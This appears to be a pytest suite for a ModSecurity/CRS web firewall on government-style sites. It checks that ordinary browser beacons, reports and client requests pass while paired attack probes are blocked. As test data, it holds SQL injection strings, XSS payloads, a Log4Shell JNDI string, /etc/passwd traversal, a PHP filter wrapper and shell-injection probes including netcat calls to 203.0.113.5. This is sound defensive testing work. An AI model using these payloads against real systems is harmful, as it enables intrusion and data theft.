"""Stop 22 (issue 13, ADR 0019): what modern browsers and clients send, through the real tier.

text/plain bodies (sendBeacon, fetch with a string) are allowed at every profile and read: as JSON when
they are JSON, whole by CRS's own paranoia-1 attack rules when they are not. Browser reports are read at
paranoia level 1 when, and only when, they have a report's shape. Each corpus-D fix passes its ordinary
request and still reads a probe on the same target.
"""

from __future__ import annotations

import json
import urllib.parse
import uuid

import pytest

from sitegroup.waf.modsec import TEXT_BODY_VAR
from tests.waf import attacks
from tests.waf.conftest import Tier
from tests.waf.factory import BLOCKING, GATEWAY, profile_host
from tests.waf.harness import Req, as_citizens, found_within, rules_by_test_id, send

pytestmark = pytest.mark.slow

TEXT = {**attacks.BASE, "Content-Type": "text/plain;charset=UTF-8"}
FORM = {**attacks.BASE, "Content-Type": "application/x-www-form-urlencoded"}
JSON = {**attacks.BASE, "Content-Type": "application/json"}


def _q(s: str) -> str:
    return urllib.parse.quote(s, safe="")


def _run(tier: Tier, profile: str, reqs: list[Req], logged: tuple[int, ...] = ()
         ) -> tuple[list[int], dict[str, list[str]], list[str]]:
    """Statuses, rule ids per request (waiting for the refused ones and those at ``logged``), request ids."""
    ids = [uuid.uuid4().hex for _ in reqs]
    tagged = as_citizens([Req(r.method, r.path, {**r.headers, "X-Test-Id": i}, r.body, r.label)
                          for r, i in zip(reqs, ids, strict=True)])
    statuses = [send(tier.port, profile_host(profile), q, source=GATEWAY).status for q in tagged]
    expect = [i for n, (i, s) in enumerate(zip(ids, statuses, strict=True)) if s != 200 or n in logged]
    return statuses, rules_by_test_id(tier.nginx, expect), ids


def _found_within(tier: Tier, ids: list[str]) -> dict[str, set[str]]:
    """The variables (ARGS, REQUEST_BODY, the text body's copy…) each request's rule matches were found in."""
    return found_within(tier.nginx, ids, TEXT_BODY_VAR)


# --- text/plain ----------------------------------------------------------------------------------

ORDINARY_TEXT = [
    ("web-vitals JSON", json.dumps({"name": "INP", "value": 200, "rating": "good", "id": "v5-1796190915826-53",
                                    "attribution": {"interactionTarget": "div#main>ul.list>li:nth-child(3)>a"}})),
    ("a comment as JSON text", json.dumps({"articleId": 847260, "nickname": "市民",
                                           "content": "建议增加周末延时服务窗口。"}, ensure_ascii=False)),
    ("k=v beacon (not JSON)", "sid=a65d62dfb56fcb9b&pv=2&url=" + _q("https://www.example.gov.cn/zwgk/") + "&title="
     + _q("关于公开征求意见的公告")),
    ("an error-monitor envelope (one JSON document per line)",
     '{"event_id":"9ec79c33ec9942ab8353589fcb2e04dc","sent_at":"2026-12-04T08:00:00.000Z"}\n{"type":"event"}\n'
     '{"exception":{"values":[{"type":"TypeError",'
     '"value":"Cannot read properties of undefined (reading \'length\')"}]}}'),
    ("a SignalR handshake frame (JSON + record separator)", '{"protocol":"json","version":1}\x1e'),
]


@pytest.mark.parametrize("profile", BLOCKING)
def test_ordinary_text_plain_bodies_pass(tier: Tier, profile: str) -> None:
    reqs = [Req("POST", "/api/stat/collect", TEXT, body, label) for label, body in ORDINARY_TEXT]
    statuses, audit, ids = _run(tier, profile, reqs)
    refused = [(r.label, s, audit.get(i)) for r, s, i in zip(reqs, statuses, ids, strict=True) if s != 200]
    assert not refused, f"{profile}: {refused}"


ATTACK_TEXT = [
    ("SQLi, raw", "1 union select username,password from admin_user--"),
    ("SQLi in k=v", "sid=1&q=" + _q("1' or '1'='1' -- ")),
    ("shell command in k=v (CRS 920420-14's body)", "cmd=/bin/unxz -c /var/log/something_sensitive.xz"),
    ("XSS, raw", "<img src=x onerror=alert(document.cookie)>"),
    ("Log4Shell, raw", "${jndi:ldap://203.0.113.5:1389/Exploit}"),
    ("traversal in an envelope line", '{"type":"event"}\n{"file":"../../../../etc/passwd"}'),
    ("PHP wrapper, raw", "php://filter/convert.base64-encode/resource=index.php"),
]


@pytest.mark.parametrize("profile", BLOCKING)
def test_attacks_in_text_plain_that_is_not_json_are_refused(tier: Tier, profile: str) -> None:
    """Before stop 22 a legacy-cms site served all of these (text/plain had no body processor)."""
    reqs = [Req("POST", "/api/stat/collect", TEXT, body, label) for label, body in ATTACK_TEXT]
    statuses, _, ids = _run(tier, profile, reqs)
    served = [r.label for r, s in zip(reqs, statuses, strict=True) if s != 403]
    assert not served, f"{profile}: served {served}"
    # found by CRS's rules (or the platform's replacement of one) in the whole body
    where = _found_within(tier, ids)
    assert all(TEXT_BODY_VAR in where.get(i, set()) for i in ids), where


def test_malformed_json_is_still_refused_and_text_is_not(tier: Tier) -> None:
    reqs = [Req("POST", "/api/x", JSON, '{"a": "b"', "json"), Req("POST", "/api/x", TEXT, '{"a": "b"', "text")]
    statuses, _, _ = _run(tier, "strict", reqs)
    assert statuses == [400, 200]


def test_other_bodies_are_not_read_twice(tier: Tier) -> None:
    """Only an unparsed text/plain body is copied into TEXT_BODY_VAR for the paranoia-1 rules: a form or
    JSON attack is found in its argument, never also in the raw body (double scores, and the raw body's
    separators and quotes would be read as attacks)."""
    payload = "1 union select username,password from admin_user--"
    reqs = [Req("POST", "/api/x", FORM, "a=1&q=" + _q(payload), "form"),
            Req("POST", "/api/x", JSON, json.dumps({"a": 1, "q": payload}), "json"),
            Req("POST", "/api/x", TEXT, payload, "text")]
    statuses, _, ids = _run(tier, "standard", reqs)
    assert statuses == [403, 403, 403]
    where = _found_within(tier, ids)
    assert not {"REQUEST_BODY", TEXT_BODY_VAR} & (where[ids[0]] | where[ids[1]]), where
    assert where[ids[2]] == {TEXT_BODY_VAR}, where


# --- browser reports -------------------------------------------------------------------------------

CSP = {**attacks.BASE, "Content-Type": "application/csp-report"}
REPORTS = {**attacks.BASE, "Content-Type": "application/reports+json"}
POLICY = ("default-src 'self'; img-src 'self' data:; script-src 'self' 'nonce-lzQ3' https://hm.baidu.com; "
          "report-uri /csp")
LEGACY_REPORT = {"csp-report": {"document-uri": "https://www.example.gov.cn/zwgk/", "referrer": "",
                                "violated-directive": "script-src-elem", "effective-directive": "script-src-elem",
                                "original-policy": POLICY, "disposition": "enforce", "blocked-uri": "inline",
                                "status-code": 200, "script-sample": "window.dataLayer=window.dataLayer||[];"}}
API_REPORTS = [{"type": "csp-violation", "age": 12, "url": "https://www.example.gov.cn/", "user_agent": "Mozilla/5.0",
                "body": {"documentURL": "https://www.example.gov.cn/", "blockedURL": "https://hm.baidu.com/hm.js?x",
                         "effectiveDirective": "script-src-elem", "originalPolicy": POLICY, "sample": "",
                         "disposition": "enforce", "statusCode": 200}},
               {"type": "network-error", "age": 3, "url": "https://www.example.gov.cn/a.css", "user_agent": "x",
                "body": {"phase": "application", "protocol": "http/1.1", "server_ip": "", "status_code": 502,
                         "type": "http.error", "elapsed_time": 41, "method": "GET", "referrer": "",
                         "sampling_fraction": 1}}]


@pytest.mark.parametrize("profile", BLOCKING)
def test_browser_reports_pass(tier: Tier, profile: str) -> None:
    reqs = [Req("POST", "/csp-report", CSP, json.dumps(LEGACY_REPORT), "csp-report"),
            Req("POST", "/reports?key=ab12-cd34", REPORTS, json.dumps(API_REPORTS), "reports+json")]
    statuses, audit, ids = _run(tier, profile, reqs)
    assert statuses == [200, 200], [audit.get(i) for i in ids]


PL2_ONLY = "<b>重要</b>"  # 10320 (941320, PL2); no PL1 rule reads it (test_engine.test_paranoia_is_per_site...)


@pytest.mark.parametrize(("label", "path", "body", "refused"), [
    ("a report: read at PL1", "/csp-report", {"csp-report": {"document-uri": PL2_ONLY}}, False),
    ("a report with XSS: PL1 still reads it", "/csp-report",
     {"csp-report": {"document-uri": "https://x/<script>alert(1)</script>"}}, True),
    ("a report's shape is required", "/csp-report", {"username": PL2_ONLY}, True),
    ("one foreign field is enough", "/csp-report", {"csp-report": {"document-uri": PL2_ONLY}, "cmd": "1"}, True),
    ("a query value that is not a token", "/csp-report?x=" + _q(PL2_ONLY), {"csp-report": {"blocked-uri": "x"}},
     True),
])
def test_a_report_is_read_at_pl1_only_when_it_has_a_reports_shape(tier: Tier, label: str, path: str, body: dict,
                                                                   refused: bool) -> None:
    statuses, audit, ids = _run(tier, "strict", [Req("POST", path, CSP, json.dumps(body), label)])
    assert (statuses[0] == 403) == refused, (label, statuses[0], audit.get(ids[0]))


# --- corpus D's fixes: each ordinary request passes, a probe on the same target still fires ------------

_MESSAGE = json.dumps({"text": "请问社保卡补办需要哪些材料？"}, ensure_ascii=False)
STOMP = json.dumps(["SEND\ndestination:/app/chat\ncontent-type:application/json\n\n" + _MESSAGE + "\x00"],
                   ensure_ascii=False)
JDK_ACCEPT = "text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2"
ALIPAY_CT = "application/x-www-form-urlencoded; text/html; charset=utf-8"
PEM = ("-----BEGIN CERTIFICATE-----\r\nMIIEIDCCAwigAwIBAgIFEDRVM3AwDQYJKoZIhvcNAQEFBQAwITELMAkGA1UEBhMC\r\n"
       "QTELMAkGA1UEBhMCQ04xEjAQBgNVBAoTCUNGQ0EgT0NBMTAeFw0xOTA1MjIwODA2\r\n-----END CERTIFICATE-----")
XML = {**attacks.BASE, "Content-Type": "application/xml"}
# OASIS CAP 1.2 (GB/T 35965.1): an emergency alert, sent as application/cap+xml (RFC 6839's +xml suffix).
CAP = {**attacks.BASE, "Content-Type": "application/cap+xml; charset=utf-8"}
CAP_ALERT = ('<?xml version="1.0" encoding="UTF-8"?><alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">'
             "<identifier>52000041600000_20270204013818</identifier><sender>52000041600000</sender>"
             "<sent>2027-02-04T01:38:18+08:00</sent><status>Actual</status><msgType>Alert</msgType>"
             "<scope>Public</scope><info><language>zh-CN</language><category>Met</category><event>暴雨</event>"
             "<urgency>Immediate</urgency><severity>Severe</severity><certainty>Likely</certainty>"
             "<headline>暴雨橙色预警</headline><description>{text}</description><area><areaDesc>观山湖区</areaDesc>"
             "<geocode><valueName>GB/T 2260</valueName><value>520115</value></geocode></area></info></alert>")
ETAGS = ("e1e5ad0a6c36ac70706ea8cd843f9599", "c81438a4e143984c89e36ab43d5f2643", "2b13cd456b0219dbd08a6d9d2433fe61",
         "9b2450ac0d76e30e34249bb4f44f5204", "450acae168cf0f5f1078ab7703dae8b9", "51f400f57aed004f53c0d9e8a7b6c5d4")
S3_COMPLETE = ('<?xml version="1.0" encoding="UTF-8"?>\n'
               '<CompleteMultipartUpload xmlns="http://s3.amazonaws.com/doc/2006-03-01/">'
               + "".join(f'<Part><PartNumber>{n}</PartNumber><ETag>"{h}"</ETag></Part>'
                         for n, h in enumerate(ETAGS, start=1))
               + "</CompleteMultipartUpload>")
# 10710 is 941100 read through its platform copy (stop 29: a value that is wholly base64 is not read for XSS).
D_CASES = [
    ("10660: a CSS selector is not a tautology", "strict",
     Req("POST", "/stat/vitals", JSON, json.dumps({"target": "div#main>ul.list>li:nth-child(3)>a"})),
     Req("POST", "/stat/vitals", JSON, json.dumps({"target": "a.b>c or 1>0"})), "10660"),
    ("10440: an XPath's //* is not a comment", "strict",
     Req("POST", "/stat/click", JSON, json.dumps({"xpath": '//*[@id="main"]/ul/li[2]/a'})),
     Req("POST", "/stat/click", JSON, json.dumps({"xpath": '//*[@id="main"]/ul/li[2]/a or 1=1/*'})), "10440"),
    ("10440: a push endpoint's token holds --", "strict",
     Req("POST", "/api/webpush/subscriptions", JSON,
         json.dumps({"endpoint": "https://updates.push.services.mozilla.com/wpush/v2/gAAAAAzg-4--LTj0VBH4"})),
     Req("POST", "/api/webpush/subscriptions", JSON, json.dumps({"endpoint": "1 or 1=1-- x"})), "10440"),
    ("10130: a Web Push service is not off-domain", "strict",
     Req("POST", "/api/webpush/subscriptions", JSON,
         json.dumps({"endpoint": "https://fcm.googleapis.com/fcm/send/vgQ_KpIW5no:APA91bUy"})),
     Req("POST", "/api/webpush/subscriptions", JSON,
         json.dumps({"endpoint": "https://fcm.googleapis.com.evil.example/shell.txt"})), "10130"),
    ("10130: SAML's SigAlg is a W3C namespace URI", "strict",
     Req("GET", "/idp/profile/SAML2/Redirect/SSO?SAMLRequest=hZLNbsIw&SigAlg="
         + _q("http://www.w3.org/2001/04/xmldsig-more#rsa-sha256") + "&Signature=c9%2FpUp", dict(attacks.BASE)),
     Req("GET", "/idp/profile/SAML2/Redirect/SSO?SAMLRequest=hZLNbsIw&SigAlg="
         + _q("http://www.w3.org.evil.example/x.txt"), dict(attacks.BASE)), "10130"),
    ("10044: WebSub's hub.callback", "strict",
     Req("POST", "/websub/hub", FORM, "hub.mode=subscribe&hub.topic=" + _q("https://www.example.gov.cn/feed")
         + "&hub.callback=" + _q("https://rss.example.org/api/websub/9ec9") + "&hub.lease_seconds=86400"),
     Req("POST", "/websub/hub", FORM, "hub.mode=publish&hub.url=" + _q("https://rss.example.org/shell.txt")),
     "10130"),
    ("10101: a backend's HTTP library is a notice, not a refusal", "strict",
     Req("GET", "/cas/p3/serviceValidate?ticket=ST-6920544-8gElGloP-cas01&service="
         + _q("https://zwfw.example.gov.cn/login/cas"), {"User-Agent": "python-requests/2.32.3", "Accept": "*/*"}),
     Req("GET", "/search?q=1", {"User-Agent": "python-requests/2.32.3", "Accept": "*/*"}), "10101"),
    ("10042: the JDK's default Accept", "standard",
     Req("GET", "/cas/serviceValidate?ticket=ST-3154817-4EQa7vrB-cas01", {"User-Agent": "Java/1.8.0_392",
                                                                       "Accept": JDK_ACCEPT}),
     Req("GET", "/cas/serviceValidate?ticket=ST-3154817-4EQa7vrB-cas01", {"User-Agent": "Java/1.8.0_392",
                                                                       "Accept": JDK_ACCEPT + ", x"}),
     "920600"),
    ("10139: a JavaScript stack trace's source locations", "standard",
     Req("POST", "/api/monitor/error", JSON, json.dumps({"stack": "TypeError: x is undefined\n    at "
                                                        "HTMLDocument.<anonymous> (https://www.example.gov.cn/js/app"
                                                        ".js:3:60097)\n    at loadMore (webpack:///./src/a.js:12:5)"})),
     Req("POST", "/api/monitor/error", JSON, json.dumps({"stack": "x <(cat /etc/passwd)"})), "10139"),
    ("10101: a link checker fetching a page", "strict",
     Req("GET", "/search?q=1", {"User-Agent": "W3C-checklink/5.0.0 libwww-perl/6.77"}),
     Req("GET", "/search?q=1", {"User-Agent": "W3C-checklink/5.0.0 libwww-perl/6.77", "Accept": "*/*"}), "10101"),
    ("10046: Alipay's notify Content-Type", "strict",
     Req("POST", "/pay/notify/alipay", {**attacks.BASE, "Content-Type": ALIPAY_CT},
         "trade_status=TRADE_SUCCESS&total_amount=200.00&sign_type=RSA2"),
     Req("POST", "/pay/notify/alipay", {**attacks.BASE, "Content-Type": ALIPAY_CT.replace("html", "xml")},
         "trade_status=TRADE_SUCCESS&total_amount=200.00"), "920470"),
    ("10330: the JSON guard covers an array of objects", "strict",
     Req("POST", "/pay/notify/alipay", FORM, "fund_bill_list=" + _q('[{"amount":"200.00","fundChannel":"PCREDIT"}]')),
     Req("POST", "/pay/notify/alipay", FORM, "fund_bill_list=" + _q("[{1' and 'a'='a' and 1=1 --")), "10330"),
    ("10430: a PEM certificate", "strict",
     Req("POST", "/pay/notify/unionpay", FORM, "signMethod=01&signPubKeyCert=" + _q(PEM)),
     Req("POST", "/pay/notify/unionpay", FORM, "signMethod=01&signPubKeyCert="
         + _q(PEM.replace("QTELMAkGA1UEBhMC", "QTELMAk' or 1=1 -- "))), "10430"),
    ("10431: a PEM certificate at PL3", "high-value",
     Req("POST", "/pay/notify/unionpay", FORM, "signMethod=01&signPubKeyCert=" + _q(PEM)),
     Req("POST", "/pay/notify/unionpay", FORM, "signMethod=01&signPubKeyCert="
         + _q(PEM.replace("QTELMAkGA1UEBhMC", "QTELMAk' or (1)=(1) -- "))), "10431"),
    ("10440: an English dash between words", "strict",
     Req("POST", "/en/contact", FORM, "message=" + _q("Thanks for the quick reply -- it helped a lot!")),
     Req("POST", "/en/contact", FORM, "message=" + _q("Thanks for the quick reply' -- it helped")), "10440"),
    ("10400: 'and' between years is English", "strict",
     Req("POST", "/en/contact", FORM, "message=" + _q("Is there a comparison of the 2025 and 2026 figures?")),
     Req("GET", "/en/news?id=" + _q("5 and 1"), dict(attacks.BASE)), "10400"),
    ("10047: an object store's response-content-disposition", "strict",
     Req("GET", "/zwgk-files/202701/1ef0f4ae.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Expires=600"
         "&response-content-disposition=" + _q("attachment; filename=\"____[2027]_15.pdf\"; filename*=UTF-8''"
                                              + _q("答复书[2027]第15号.pdf")) + "&X-Amz-Signature=d6a1",
         dict(attacks.BASE)),
     Req("GET", "/zwgk-files/a.pdf?response-content-disposition=" + _q("attachment; filename=\"a' or '1'='1\""),
         dict(attacks.BASE)), "942100"),
    ("10047: only when the parameter is there once", "strict",
     Req("GET", "/zwgk-files/a.pdf?response-content-disposition=" + _q('inline; filename="a.pdf"'), dict(attacks.BASE)),
     Req("GET", "/zwgk-files/a.pdf?response-content-disposition=" + _q('inline; filename="a.pdf"')
         + "&response-content-disposition=" + _q("<script>alert(1)</script>"), dict(attacks.BASE)), "10710"),
    ("10047: nor when a form field has the same name", "strict",
     Req("POST", "/zwgk-files/a.pdf?response-content-disposition=" + _q('inline; filename="a.pdf"'), FORM, "x=1"),
     Req("POST", "/zwgk-files/a.pdf?response-content-disposition=" + _q('inline; filename="a.pdf"'), FORM,
         "response-content-disposition=" + _q("1' union select password from users--")), "942100"),  # noqa: S608 (a probe)
    ("10450: a WeChat User-Agent in form metadata", "strict",
     Req("POST", "/form/api/form/5d91/submission", JSON, json.dumps({"data": {"name": "张三"}, "metadata": {
         "userAgent": "Mozilla/5.0 (Linux; Android 13; V2219A; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
                      "Version/4.0 Chrome/138.0 Mobile Safari/537.36 MicroMessenger/8.0.57.2900(0x28003D37) "
                      "NetType/WIFI Language/zh_CN"}})),
     Req("POST", "/form/api/form/5d91/submission", JSON, json.dumps({"metadata": {
         "userAgent": "Mozilla/5.0 (x) 1 and 0x61646d696e='x"}})), "10450"),
    ("10430: an S3 CompleteMultipartUpload's ETags", "strict",
     Req("POST", "/media-video/2027/01/21/0dc2955c.mp4?uploadId=2~Kf3x", XML, S3_COMPLETE),
     Req("POST", "/media-video/2027/01/21/0dc2955c.mp4?uploadId=2~Kf3x", XML,
         S3_COMPLETE.replace("<PartNumber>3</PartNumber>", "<PartNumber>3'||(select 1)||'</PartNumber>")), "10430"),
    ("10431: an S3 CompleteMultipartUpload's ETags at PL3", "high-value",
     Req("POST", "/media-video/2027/01/21/0dc2955c.mp4?uploadId=2~Kf3x", XML, S3_COMPLETE),
     Req("POST", "/media-video/2027/01/21/0dc2955c.mp4?uploadId=2~Kf3x", XML,
         S3_COMPLETE.replace("<PartNumber>3</PartNumber>", "<PartNumber>3'||(select 1)||'</PartNumber>")), "10431"),
    # Stop 25 (corpus I tuning part).
    ("10360: an English word after Chinese text is not concatenated SQL", "standard",
     Req("POST", "/v1/chat-messages", JSON, json.dumps(
         {"query": "医保个人账户的钱能给父母用吗？家庭共济绑定以后还能 delete 吗？", "user": "u-1842",
          "response_mode": "streaming"}, ensure_ascii=False)),
     Req("POST", "/v1/chat-messages", JSON, json.dumps({"query": "'); delete from users where 1=1 --"})), "10360"),
    ("200013: a CAP alert (application/cap+xml) is XML, read element by element", "strict",
     Req("POST", "/api/cap/alerts", CAP,
         CAP_ALERT.format(text="贵阳市气象台发布暴雨橙色预警：预计未来3小时内降雨量将达50毫米以上。")),
     Req("POST", "/api/cap/alerts", CAP, CAP_ALERT.format(text="&lt;script&gt;alert(1)&lt;/script&gt;")), "10710"),
    # Stop 26 (corpus I tuning part).
    ("10660: a tag named in an English prompt is not a comparison", "strict",
     Req("POST", "/ai/v1/chat/completions", JSON, json.dumps({"model": "glm-4-9b-chat", "messages": [
         {"role": "system", "content": "Answer in Simplified Chinese. Use the <context> below; if the answer is "
                                       "not in it, say you don't know."},
         {"role": "user", "content": "新生儿出生后怎么办理落户？"}]}, ensure_ascii=False)),
     Req("POST", "/ai/v1/chat/completions", JSON, json.dumps({"messages": [{"content": "x' or 'a'<'b"}]})),
     "10660"),
    ("10660: 'is not' before a literal is still SQL", "strict",
     Req("POST", "/en/contact", FORM, "message=" + _q("The page is not loading and I do not like the new layout")),
     Req("GET", "/en/news?id=" + _q("1' or 1 is not null -- x"), dict(attacks.BASE)), "10660"),
    ("10660: nor is a closing tag", "high-value",
     Req("POST", "/ai/v1/chat/completions", JSON, json.dumps(
         {"messages": [{"role": "system", "content": "Quote the <document> verbatim, then </document> summary"}]})),
     Req("POST", "/ai/v1/chat/completions", JSON, json.dumps({"messages": [{"content": "1 or x<y"}]})), "10660"),
    ("10640: an apostrophe in a name, then a quote in Chinese text", "strict",
     Req("POST", "/dify/v1/chat-messages", JSON, json.dumps(
         {"inputs": {}, "query": "我叫 O'Brien，外籍，实名认证时姓名里的撇号（'）怎么填？", "response_mode": "blocking",
          "user": "web-26cde2ec87d76d59"}, ensure_ascii=False)),
     Req("POST", "/dify/v1/chat-messages", JSON, json.dumps({"query": "O'Brien)--'"})), "10640"),
    ("10170: a registry token request repeats its scope", "high-value",
     Req("GET", "/service/token?account=zwy-deployer&scope=" + _q("repository:library/redis:pull") + "&scope="
         + _q("repository:library/redis:pull,push") + "&service=harbor-registry", dict(attacks.BASE)),
     Req("GET", "/service/token?scope=" + _q("repository:a b") + "&scope=" + _q("x y"), dict(attacks.BASE)),
     "921180"),
    # Stop 26 (corpus J tuning part).
    ("10660: an SMS report's biz_id (two numbers joined by ^) is an identifier", "strict",
     Req("POST", "/sms/callback/aliyun/report", JSON, json.dumps([
         {"phone_number": "17831368074", "send_time": "2027-03-15 14:47:24", "success": True, "err_code": "DELIVERED",
          "err_msg": "用户接收成功", "biz_id": "237753^5085406854", "out_id": "BJ6097069013"}], ensure_ascii=False)),
     Req("POST", "/sms/callback/aliyun/report", JSON, json.dumps([{"biz_id": "237753^5085406854 or 1^0"}])), "10660"),
    ("10440: building numbers after Chinese text are not SQL comments", "strict",
     Req("POST", "/tzxm/api/project/filing", JSON, json.dumps(
         {"xmmc": "标准厂房建设项目",
          "scale": "新建标准厂房 3 栋（1#~3#），购置生产设备 86 台（套），达产后年产值约 3.2 亿元。",
          "gcmc": "XX 县 城乡供水 一体化 工程（PPP）（1#、2# 楼）",
          "explain": "二期 1#~8# 楼 已投产"}, ensure_ascii=False)),
     Req("POST", "/tzxm/api/project/filing", JSON, json.dumps({"scale": "1 union select 1,2,3# x"})), "10440"),
    # Stop 27 (corpus K tuning part).
    ("10440: a '-' range of building numbers after a space after Chinese text", "strict",
     Req("POST", "/sgtsc/api/project/save", JSON, json.dumps(
         {"xmmc": "观山湖区 XX 安置房 项目 1#-6# 楼", "xmdm": "2027-520103-47-01-758979", "jglx": "框架-剪力墙"},
         ensure_ascii=False)),
     Req("POST", "/sgtsc/api/project/save", JSON, json.dumps({"xmmc": "x' and 1 2# x"})), "10440"),
    ("10431: an English letter is not counted as SQL punctuation (PL3)", "high-value",
     Req("POST", "/en/contact/submit", FORM, "message=" + _q(
         "Hi, I'm O'Connor from Dublin; I teach English at a school in Bengbu. 1) passport copy; 2) contract; "
         "3) health check -- is anything else required? Your site says \"please enable JavaScript\" (Android 14).")),
     Req("POST", "/en/contact/submit", FORM, "message=" + _q("admin')/**/or/**/('1'='1'--")), "10431"),
    ("10511: a word in ticks in English prose (PL3)", "high-value",
     Req("POST", "/jyy/api/zy/essay/submit", JSON, json.dumps(
         {"content": "Passage A: \"Where there's a will, there's a way.\" Lucy's story shows this. Q: What does "
                     "the word 'will' mean? Don't forget to try 'suan tang yu' (sour fish soup)!"})),
     Req("POST", "/jyy/api/zy/essay/submit", JSON, json.dumps({"content": "x' or 'abc'='abc"})), "10511"),
    ("10620: a comma, then we'd, in English prose (PL2)", "strict",
     Req("POST", "/jyy/api/zy/essay/submit", JSON, json.dumps(
         {"content": "Second, our parents work hard (8-10 hours a day), so we'd better share the housework."})),
     Req("POST", "/jyy/api/zy/essay/submit", JSON, json.dumps({"content": "1, b' or 'c"})), "10620"),
    ("10139: MathML's parenthesis operator is no process substitution", "standard",
     Req("POST", "/kjxm/api/sbs/formula/preview", FORM, "mathml=" + _q(
         "<math><mi>f</mi><mo>(</mo><mi>x</mi><mo>)</mo><mo>=</mo><mn>1</mn></math>")),
     Req("POST", "/kjxm/api/sbs/formula/preview", FORM, "mathml=" + _q("x>(</mo>x;id)")), "10139"),
    ("10120: a comparison written after Chinese text", "strict",
     Req("POST", "/ebus/fuwu/api/nthl/api/ydjy/saveFiling", JSON, json.dumps(
         {"data": {"data": {"fileType": "异地长期居住人员", "memo": "单位 派驻 外地 项目部 >= 6个月",
                            "explain": "出口交货值 <= 工业销售产值"}}}, ensure_ascii=False)),
     Req("POST", "/ebus/fuwu/api/nthl/api/ydjy/saveFiling", JSON, json.dumps({"memo": "x' or 2>=1 or 'a'<>'b"})),
     "10120"),
    ("10043: a STOMP frame over SockJS", "standard",
     Req("POST", "/ws/217/x8f2kq1m/xhr_send", TEXT, STOMP),
     Req("POST", "/api/chat/send", TEXT, STOMP), "920270"),
]


@pytest.mark.parametrize("case", D_CASES, ids=[c[0].split(":")[0] + ":" + c[0].split(": ")[1][:24] for c in D_CASES])
def test_corpus_d_fix_passes_its_case_and_still_reads_the_probe(tier: Tier, case: tuple) -> None:
    _, profile, ordinary, probe, rule = case
    statuses, audit, ids = _run(tier, profile, [ordinary, probe], logged=(1,))
    assert statuses[0] == 200, (ordinary, audit.get(ids[0]))
    assert rule in audit.get(ids[1], []), f"{rule} no longer fires on {probe}: {audit.get(ids[1])}"


@pytest.mark.parametrize("profile", BLOCKING)
def test_an_attack_in_a_sockjs_frame_is_refused(tier: Tier, profile: str) -> None:
    """10043 takes the protocol rules off SockJS frames, not the injection rules."""
    frame = json.dumps(["SEND\ndestination:/app/chat\n\n" + json.dumps({"text": "<script>alert(1)</script>"}) + "\x00"])
    statuses, _, _ = _run(tier, profile, [Req("POST", "/ws/217/x8f2kq1m/xhr_send", TEXT, frame)])
    assert statuses == [403]


@pytest.mark.parametrize("ctype,body", [
    ("application/cap+xml", "<alert><identifier>x</identifier"),  # not XML: the parser says so
    ("application/problem+json", '{"type": "about:blank", "status": 400'),  # not JSON
    ("application/x-unknown", "<alert/>"),  # no +xml/+json suffix: the profile's type list decides (920420)
])
def test_a_structured_suffix_type_is_parsed_or_refused(tier: Tier, ctype: str, body: str) -> None:
    """RFC 6839 +xml/+json types pass the type check only because a strict parser reads them whole."""
    statuses, _, _ = _run(tier, "strict", [Req("POST", "/api/cap/alerts", {**attacks.BASE, "Content-Type": ctype},
                                               body)])
    assert statuses[0] in (400, 403), (ctype, statuses)


# Stop 27: what 10139's MathML exemption (<mo>(</mo>) must never let through. A command after the failing
# /mo redirection needs a separator or a space before a non-assignment word; each of these is refused.
MO_COMMANDS = ["x>(</mo>x;id)", "x>(</mo>x|sh)", "x>(</mo>x\nid)", "a>(</mo>b&id)", "x>(</mo> nc 203.0.113.5 80)",
               "x>(</mo>$(id))", "x>(</mo>`id`)", "x>(</mo>{nc,203.0.113.5,80})", "x>(</mo><a ;id>x)",
               "x>(</mo><a x=1;id>x)", "x>(</mo><mi a=b,id>x)"]


@pytest.mark.parametrize("profile", BLOCKING)
def test_a_command_after_mathmls_parenthesis_is_still_a_shell_expression(tier: Tier, profile: str) -> None:
    reqs = [Req("POST", "/kjxm/api/sbs/formula/preview", FORM, "mathml=" + _q(v), v) for v in MO_COMMANDS]
    statuses, _, _ = _run(tier, profile, reqs)
    assert [r.label for r, s in zip(reqs, statuses, strict=True) if s != 403] == []


def test_942200s_copy_still_reads_the_end_of_a_long_multi_line_value(tier: Tier) -> None:
    """ADR 0026: with its guards in front, 10620 (942200's copy) scanned a multi-line value once per comma and line
    and ran over PCRE2's match limit on about 50 KB: the rule silently did not match. Its stock pattern now runs
    unanchored, the guards as a chained link, and finds the statement after 60 KB of letter lines."""
    lines = "Thanks for the quick reply, it helped a lot. Can I pay the fee by card, or cash?\n" * 800
    statement = "x select password from users"
    _, audit, ids = _run(tier, "strict", [Req("POST", "/en/contact/submit", FORM, "message=" + _q(lines + statement))],
                         logged=(0,))
    assert "10620" in audit[ids[0]], audit.get(ids[0])
